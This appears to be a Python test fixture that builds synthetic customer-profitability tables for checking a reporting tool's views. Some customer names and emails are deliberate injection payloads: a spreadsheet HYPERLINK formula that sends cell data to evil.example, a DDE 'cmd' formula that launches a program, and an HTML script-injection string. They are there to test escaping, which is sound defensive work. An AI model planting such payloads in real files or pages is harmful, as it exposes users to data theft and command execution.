"""A small run with every kind of table the views know, built by hand (no pipeline, fast).

Forty customers with figures chosen so that the headline sentence reads exactly like the issue's example;
names that try formula injection (``=HYPERLINK(...)``, ``+31 …``, ``@home``) and HTML injection
(``</script>``); a ``rejected`` row whose value starts with ``=``. The workspace is in memory.
"""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import numpy as np
import pandas as pd
import pyarrow as pa

EVIL_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Klik hier")'
SCRIPT_NAME = "</script><script>alert('x')</script> BV"
N = 40


def _customers() -> pd.DataFrame:
    rng = np.random.default_rng(7)
    ids = [f"K{i:03d}" for i in range(1, N + 1)]
    revenue = np.round(np.sort(rng.pareto(1.2, N) * 20_000 + 500)[::-1], 2)
    margin = np.round(revenue * rng.uniform(0.15, 0.35, N), 2)
    cts = np.round(rng.uniform(300, 9_000, N), 2)
    profit = np.round(margin - cts, 2)
    names = [f"Klant {i} BV" for i in range(1, N + 1)]
    names[3], names[5], names[7], names[9] = EVIL_NAME, "+31 Handel", "@home BV", SCRIPT_NAME
    email = [f"info@klant{i}.nl" for i in range(1, N + 1)]
    email[2], email[4], email[6] = None, "geen e-mail", "=cmd|' /C calc'!A0@x.nl"
    levels = ["top"] * 4 + ["large"] * 8 + ["medium"] * 12 + ["small"] * 16
    abc = ["A"] * 8 + ["B"] * 8 + ["C"] * 24
    groups = (["top", "growth", "cost", "other", "at_risk"] * 8)[:N]
    return pd.DataFrame({
        "customer_id": ids, "name": names, "status": ["active"] * (N - 3) + ["inactive"] * 3,
        "revenue": [Decimal(str(v)) for v in revenue], "gross_margin": margin,
        "margin_pct": np.round(margin / revenue, 4), "cost_orders": np.round(cts * 0.4, 2),
        "cost_visits": np.round(cts * 0.6, 2), "cost_to_serve": cts, "net_profit": profit,
        "profit_pct": np.round(profit / revenue, 4), "orders": rng.integers(1, 40, N),
        "last_order": [dt.date(2024, 12, 31) - dt.timedelta(days=int(d)) for d in rng.integers(0, 300, N)],
        "account_manager": (["Eva Bakker", "Mark Jansen"] * N)[:N], "sector": (["Bouw", "Zorg", "Retail"] * N)[:N],
        "region": (["Utrecht", "Antwerpen"] * N)[:N], "email": email, "pyramid_level": levels, "abc_segment": abc,
        "abcd_segment": (["A", "B", "C", "D"] * 10)[:N], "value_group": groups,
        "target_segment": (["Bouw / 10-49", "Zorg / 250+"] * N)[:N],
        "contact_model": ["face-to-face"] * 8 + ["inside sales"] * 8 + ["scalable"] * 24,
        "criteria_yes": rng.integers(0, 5, N), "abc_value": np.round(revenue * 1.2, 2),
        "at_risk": [i % 9 == 0 for i in range(N)], "cross_sell_groups": ["Bouwmaterialen"] * N,
        "internal_code": ["x"] * N,
    })


def _whale(c: pd.DataFrame) -> pd.DataFrame:
    by_p = c.sort_values(["net_profit", "customer_id"], ascending=[False, True]).reset_index(drop=True)
    by_r = c.assign(revenue=c.revenue.astype(float)).sort_values("revenue", ascending=False).reset_index(drop=True)
    total_p, total_r, total_c = by_p.net_profit.sum(), by_r.revenue.sum(), by_r.cost_to_serve.sum()
    return pd.DataFrame({
        "rank": np.arange(1, N + 1), "customer_share": np.arange(1, N + 1) / N, "customer_id": by_p.customer_id,
        "net_profit": by_p.net_profit, "cum_profit": by_p.net_profit.cumsum(),
        "cum_profit_share": by_p.net_profit.cumsum() / total_p, "revenue_customer_id": by_r.customer_id,
        "revenue": by_r.revenue, "cum_revenue_share": by_r.revenue.cumsum() / total_r,
        "cum_cost_share": by_r.cost_to_serve.cumsum() / total_c,
    })


def _tables() -> dict[str, pa.Table]:
    c = _customers()
    losers = c[c.net_profit < 0].sort_values("net_profit")
    t = {
        "customers": c,
        "whale_curve": _whale(c),
        "pyramid": pd.DataFrame({
            "pyramid_level": ["top", "large", "medium", "small", "inactive", "prospect"],
            "level_order": [0, 1, 2, 3, 4, 5], "count": [4, 8, 12, 16, 3, 25],
            "revenue": [400_000.0, 200_000.0, 90_000.0, 30_000.0, 5_000.0, None],
            "customer_share": [0.1, 0.2, 0.3, 0.4, 0.075, None],
            "revenue_share": [0.55, 0.28, 0.12, 0.04, 0.01, None], "cost_share": [0.1, 0.2, 0.25, 0.45, 0.0, None],
            "profit_share": [0.7, 0.3, 0.1, -0.1, 0.0, None], "visits_share": [0.1, 0.2, 0.25, 0.45, 0.0, None],
        }),
        "effort": pd.DataFrame({
            "dimension": ["account_manager", "account_manager", "pyramid_level"], "group": ["Eva Bakker",
                                                                                           "Mark Jansen", "top"],
            "customers": [20, 20, 4], "visits": [30.0, 50.0, 12.0], "visits_share": [0.375, 0.625, 0.15],
            "profit_share": [0.6, 0.4, 0.7], "net_profit": [60_000.0, 40_000.0, 70_000.0],
        }),
        "loss_makers": losers[["customer_id", "name", "account_manager", "revenue", "net_profit"]].assign(
            order_fee=12.5, price_increase_pct=0.031),
        "abc_matrix": pd.DataFrame({"abc_size": ["high", "high", "low", "low"], "criteria_yes": [4, 1, 3, 0],
                                    "customers": [5, 3, 10, 22], "abc_segment": ["A", "B", "B", "C"],
                                    "revenue": [500_000.0, 90_000.0, 80_000.0, 40_000.0]}),
        "value_matrix": pd.DataFrame({"value_cell": ["3-3-3", "1-1-3", "2-2-1"], "margin_code": [3, 1, 2],
                                      "frequency_code": [3, 1, 2], "satisfaction_code": [3, 3, 1],
                                      "customers": [6, 4, 30], "main_group": ["top", "growth", "other"]}),
        "segment_policy": pd.DataFrame({"segment": ["A", "B", "C"], "customers": [8, 8, 24],
                                        "hours_now": [100.0, 40.0, 300.0], "hours_target": [200.0, 60.0, 0.0],
                                        "hours_freed": [-100.0, -20.0, 300.0], "contact_model": ["face-to-face",
                                                                                                 "inside sales",
                                                                                                 "scalable"],
                                        "channels": ["visits, phone", "phone, e-mail", "e-mail campaigns, webshop"]}),
        "top_group_profile": pd.DataFrame({"group": ["top"] * 2, "attribute": ["sector", "region"],
                                           "value": ["Zorg", "Utrecht"], "lift": [2.1, 1.4],
                                           "significant": [True, False]}),
        "segments": pd.DataFrame({"rank": [1, 2], "segment": ["Zorg / 250+", "Bouw / 10-49"], "customers": [20, 20],
                                  "members": [30, 25], "attractiveness": [78.0, 40.0], "likelihood": [60.0, 35.0],
                                  "focus": [True, False], "margin_pct": [31.5, 22.0]}),
        "at_risk": pd.DataFrame({"at_risk_rank": [1, 2], "customer_id": ["K001", "K010"], "name": ["Klant 1 BV",
                                                                                                  "Klant 10 BV"],
                                 "value_at_risk": [900.0, 300.0], "p_active": [0.4, 0.6]}),
        "migration": pd.DataFrame({"dimension": ["pyramid"] * 3, "from_period": ["2023"] * 3,
                                   "to_period": ["2024"] * 3, "from_level": ["top", "top", "large"],
                                   "to_level": ["top", "large", "top"], "customers": [3, 1, 2]}),
        "retention": pd.DataFrame({"period": ["2023", "2024"], "group_by": ["all", "all"], "group": ["all", "all"],
                                   "customer_retention": [0.8, 0.75], "net_revenue_retention": [1.02, 0.97]}),
        "goals": pd.DataFrame({"goal": ["retain 90% of last year's customers", "identify 400 new suspects"],
                               "target": [0.9, 400.0], "actual": [0.75, 120.0], "progress": [0.83, 0.3],
                               "status": ["not met", "not met"]}),
        "funnel": pd.DataFrame({"channel": ["website", "beurs", "all"], "period": ["all"] * 3,
                                "leads": [50, 20, 70], "quotes": [20, 10, 30], "won": [8, 5, 13]}),
        "customer_years": pd.DataFrame({"customer_id": ["K001", "K001"], "year": [2023, 2024],
                                        "revenue": [1000.0, 1200.0]}),
        "rejected": pd.DataFrame({"table": ["order_lines"], "file": ["verkopen.csv"], "row": [5], "column": ["date"],
                                  "value": ["=1+2"], "reason": ["not a date"]}),
    }
    return {k: pa.Table.from_pandas(v, preserve_index=False) for k, v in t.items()}


def tables() -> dict[str, pa.Table]:
    """The hand-made run's tables."""
    return _tables()


def thin_tables() -> dict[str, pa.Table]:
    """Only the customer table, without names or e-mail (a run of order lines alone)."""
    c = _customers()[["customer_id", "revenue", "orders"]]
    return {"customers": pa.Table.from_pandas(c, preserve_index=False)}


SUMMARY = {
    "customers": N, "revenue": 725_000.0, "gross_margin": 180_000.0, "cost_to_serve": 150_000.0,
    "net_profit": 30_000.0, "top20_revenue_share": 0.81, "tail_cost_share": 0.55, "whale_peak_share": 1.6,
    "loss_making_share": 0.14, "loss_making_customers": 6, "loss_making_total": -412_000.0, "rows_read": 1001,
    "rows_accepted": 1000, "rows_rejected": 1, "order_lines": 1000, "period_start": "2023-01-02",
    "period_end": "2024-12-31", "as_of": "2024-12-31", "abc_segments": {"A": 8, "B": 8, "C": 24},
    "value_groups": {"top": 8, "growth": 8, "cost": 8, "other": 8, "at_risk": 8},
    "segments": {"abc_high_boundary": 20_000.0, "profile_group_customers": 8, "policy_basis": "abc",
                 "top_traits": {"sector": [{"value": "Zorg", "lift": 2.1, "group_share": 0.5}]},
                 "prospects_scored": 12},
    "retention": {"period": "2024", "customer_retention": 0.75, "net_revenue_retention": 0.97},
    "goals": {"met": 0, "total": 2},
    "notes": ["profit: no activities table, so cost-to-serve leaves out visits"],
}
CONFIG = {"lang": "en", "segments": {"abc": {"a_min_yes": 2, "c_max_yes": 2}}}
